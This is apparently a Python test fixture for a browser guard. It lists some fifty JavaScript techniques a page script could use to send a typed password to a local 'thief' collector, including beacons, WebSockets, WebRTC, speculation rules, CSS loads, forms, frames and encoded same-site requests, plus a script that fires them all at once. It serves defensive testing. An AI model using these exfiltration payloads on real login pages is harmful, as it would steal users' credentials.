"""Ways to carry a typed password out of a page, as a script in Neo's own page would: none may lead anywhere.

Each says what it does in a browser without our guard: whether it arrives, or is refused by the browser itself.
In a script `to(mark)` is an address of the collector with the password in it, and `own(mark)` one of the site.
"""

from __future__ import annotations

from dataclasses import dataclass

from tests.neo.collector import Place


@dataclass(frozen=True, slots=True)
class WayOut:
    """`arrives`: what a browser does by itself, None where now this and now that.

    `mark`: by what the collector knows it, "" for its name.
    """

    name: str
    script: str
    arrives: bool | None = True
    mark: str = ""


def _tag(name: str, tag: str, attribute: str = "src", **more: str) -> WayOut:
    others = "".join(f"e.setAttribute('{key}', '{value}');" for key, value in more.items())
    return WayOut(
        name, f"const e = document.createElement('{tag}'); {others} e.{attribute} = to('{name}'); add(e);"
    )


def ways_out(thief: Place = Place()) -> list[WayOut]:  # noqa: B008 - it never changes
    """All of them; the first eight are those of the normal test run, of eight kinds."""
    stun, quic, turn = thief.udp_ports
    host = thief.url.partition("://")[2]
    worker = "new Worker(URL.createObjectURL(new Blob([`{}`])))"
    return [
        WayOut("worker-socket", worker.format(f"new WebSocket('ws://{host}/worker-socket?${{password}}')")),
        WayOut("prefetch-rules", "rules({prefetch: [{urls: [to('prefetch-rules')], eagerness: 'immediate'}]});"),
        WayOut(
            "stun",
            f"const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{stun}'}}]}});"
            "c.createDataChannel(password); c.createOffer().then((o) => c.setLocalDescription(o));",
            mark=f"udp {stun}",
        ),
        WayOut("web-transport", f"new WebTransport('https://127.0.0.1:{quic}/' + password);", mark=f"udp {quic}"),
        WayOut("shared-worker", "new SharedWorker('/shared.js?' + btoa(to('shared-worker')));"),
        WayOut(
            "fedcm",
            "navigator.credentials.get({identity: {providers: [{configURL: to('fedcm'), clientId: password}]}})"
            ".catch(() => 0);",
            mark="web-identity",
        ),
        WayOut("name", f"new Image().src = 'http://' + name + '.localhost:{thief.port}/name';", mark=".localhost:"),
        WayOut("fetch", "fetch(to('fetch'), {mode: 'no-cors', keepalive: true}).catch(() => 0);"),
        # the others; a browser without a window connects ahead to nobody
        WayOut("preconnect", f"link('preconnect', 'http://127.0.0.1:{thief.quiet_port}');", False, "quiet"),
        WayOut("dns-prefetch", f"link('dns-prefetch', 'http://127.0.0.1:{thief.quiet_port}');", False, "quiet"),
        WayOut("xhr", "const x = new XMLHttpRequest(); x.open('POST', to('xhr')); x.send(password);"),
        WayOut("beacon", "navigator.sendBeacon(to('beacon'), password);"),
        WayOut("fetch-later", "fetchLater(to('fetch-later'), {activateAfter: 0});"),
        WayOut("event-source", "new EventSource(to('event-source'));"),
        WayOut("socket", f"new WebSocket('ws://{host}/socket?' + password);"),
        WayOut("worker-fetch", worker.format("fetch(`+JSON.stringify(to('worker-fetch'))+`, {mode: 'no-cors'})")),
        WayOut("service-worker", "navigator.serviceWorker.register('/service.js?' + btoa(to('service-worker')));"),
        WayOut("image", "new Image().src = to('image');"),
        WayOut("image-set", "const e = new Image(); e.srcset = to('image-set') + ' 2x'; add(e);"),
        WayOut("style", "style(`body {background: url(${to('style')})}`);"),
        WayOut("style-import", "style(`@import '${to('style-import')}';`);"),
        WayOut("font", "new FontFace('x', `url(${to('font')})`).load().catch(() => 0);"),
        WayOut("stylesheet", "link('stylesheet', to('stylesheet'));"),
        _tag("script", "script"),
        WayOut("import", "import(to('import')).catch(() => 0);"),
        WayOut("link-prefetch", "link('prefetch', to('link-prefetch'));"),
        WayOut("link-preload", "link('preload', to('link-preload'), {as: 'script'});"),
        WayOut("module-preload", "link('modulepreload', to('module-preload'));"),
        WayOut("icon", "link('icon', to('icon'));", arrives=None),
        WayOut("manifest", "link('manifest', to('manifest'));", arrives=False),
        WayOut("prerender-rules", "rules({prerender: [{urls: [to('prerender-rules')]}]});"),
        _tag("video", "video"),
        _tag("audio", "audio"),
        _tag("poster", "video", "poster"),
        _tag("frame", "iframe"),
        WayOut("srcdoc", "const e = document.createElement('iframe');"
               "e.srcdoc = `<img src='${to('srcdoc')}'>`; add(e);"),
        WayOut("blank-frame", "const e = document.createElement('iframe'); add(e);"
               "e.contentWindow.fetch(to('blank-frame'), {mode: 'no-cors'}).catch(() => 0);"),
        _tag("object", "object", "data"),
        _tag("embed", "embed"),
        WayOut("form-to-frame", "const e = document.createElement('iframe'); e.name = 'sink'; add(e);"
               "send(to('form-to-frame'), 'sink');"),
        WayOut("form-to-window", "send(to('form-to-window'), '_blank');"),
        WayOut("ping", "const e = document.createElement('a'); e.href = '#'; e.ping = to('ping'); add(e);"
               "e.click();"),
        WayOut("window", "window.open(to('window'));"),
        WayOut(
            "turn-tcp",
            f"const c = new RTCPeerConnection({{iceServers: [{{urls: 'turn:127.0.0.1:{turn}?transport=udp',"
            "username: password, credential: 'x'}]}); c.createDataChannel('x');"
            "c.createOffer().then((o) => c.setLocalDescription(o));",
            mark=f"udp {turn}",
        ),
        WayOut("svg-image", "const e = document.createElementNS('http://www.w3.org/2000/svg', 'svg');"
               "e.innerHTML = `<image href='${to('svg-image')}' width='9' height='9'/>`; add(e);"),
        WayOut("policy-report", "const e = new Image(); e.src = '/forbidden?' + password;", mark="/csp-report"),
    ]  # fmt: skip


# Each leads the whole page away, so that it needs one of its own.
LEAVING = [
    WayOut("location", "location.href = to('location');"),
    WayOut("refresh", "const e = document.createElement('meta'); e.httpEquiv = 'refresh';"
           "e.content = '0;url=' + to('refresh'); document.head.append(e);"),
    WayOut("form", "send(to('form'), '_self');"),
    WayOut("base", "const e = document.createElement('base'); e.href = to('base'); document.head.append(e);"
           "const f = document.createElement('form'); f.method = 'post'; f.action = '/base?' + password;"
           "document.body.append(f); f.submit();"),
]  # fmt: skip

# Ways to put it into an address of the site itself: `asked` may hold it nowhere but in the body of the form.
OWN_ADDRESSES = [
    WayOut("own-fetch", "fetch(own('own-fetch')).catch(() => 0);"),
    WayOut("own-base64", "fetch('/own-base64?' + btoa('x' + password)).catch(() => 0);"),
    WayOut("own-hex", "fetch('/own-hex/' + [...password].map((c) => c.charCodeAt(0).toString(16)).join(''))"
           ".catch(() => 0);"),
    WayOut("own-reversed", "fetch('/own-reversed?' + [...password].reverse().join('')).catch(() => 0);"),
    WayOut("own-twice", "fetch('/own-twice?' + encodeURIComponent(encodeURIComponent(password))).catch(() => 0);"),
    WayOut("own-header", "fetch('/own-header', {headers: {'X-Word': password}}).catch(() => 0);"),
    WayOut("own-body", "fetch('/own-body', {method: 'POST', body: [...password].reverse().join('.')})"
           ".catch(() => 0);"),
    WayOut("own-blob", "fetch('/own-blob', {method: 'POST', body: new Blob([password])}).catch(() => 0);"),
    WayOut("own-worker", "new Worker(URL.createObjectURL(new Blob([`fetch('${location.origin}/own-worker?"
           "${password}')`])));"),
    WayOut("own-frame", "const e = document.createElement('iframe'); e.src = own('own-frame'); add(e);"),
    WayOut("own-window", "window.open(own('own-window'));"),
    WayOut("own-prefetch", "link('prefetch', own('own-prefetch'));"),
    WayOut("own-rules", "rules({prefetch: [{urls: [own('own-rules')], eagerness: 'immediate'}],"
           "prerender: [{urls: [own('own-rules')], eagerness: 'immediate'}]});"),
    WayOut("own-shadow-rules", "const e = document.createElement('div'); add(e);"
           "rules({prefetch: [{urls: [own('own-shadow-rules')], eagerness: 'immediate'}]},"
           "e.attachShadow({mode: 'closed'}));"),
    WayOut("own-socket", "new WebSocket(own('own-socket').replace('http', 'ws'));"),
    WayOut("own-download", "const e = document.createElement('a'); e.href = own('own-download'); e.download = 'x';"
           "add(e); e.click();"),
    WayOut("own-image", "new Image().src = own('own-image');"),
    WayOut("own-fetch-later", "fetchLater(own('own-fetch-later'), {activateAfter: 0});"),
    WayOut("own-fedcm", "navigator.credentials.get({identity: {providers: [{configURL: own('own-fedcm'),"
           "clientId: 'x'}]}}).catch(() => 0);"),
    WayOut("own-referrer", "history.replaceState(0, '', '/login?' + password); fetch('/own-referrer')"
           ".catch(() => 0); history.replaceState(0, '', '/login');"),
]  # fmt: skip


def page_script(ways: list[WayOut], thief: Place, *, seconds: float) -> str:
    """What tries them all as soon as the password is there, and says `POST /tried` so many seconds later."""
    attempts = "".join(f"attempt(() => {{ {way.script} }});" for way in ways)
    return f"""
const field = document.forms[0].password;
const add = (e) => document.body.append(e);
const link = (rel, href, more) => add(Object.assign(document.createElement('link'), {{rel, href}}, more));
const style = (text) => add(Object.assign(document.createElement('style'), {{textContent: text}}));
const rules = (value, place) => (place || document.body).append(Object.assign(
  document.createElement('script'), {{type: 'speculationrules', textContent: JSON.stringify(value)}}));
const send = (action, target) => {{
  const f = Object.assign(document.createElement('form'), {{action, target, method: 'post'}});
  add(f); f.submit(); }};
const attempt = (way) => {{ try {{ way(); }} catch (e) {{ console.log(e.message); }} }};
let tried = false;
field.addEventListener('input', () => {{
  if (tried) return;
  tried = true;
  const password = field.value, name = password.toLowerCase();
  const to = (mark) => '{thief.url}/' + mark + '?' + encodeURIComponent(password);
  const own = (mark) => location.origin + '/' + mark + '?' + encodeURIComponent(password);
  {attempts}
  setTimeout(() => fetch('/tried', {{method: 'POST'}}), {int(seconds * 1000)});
}});
"""
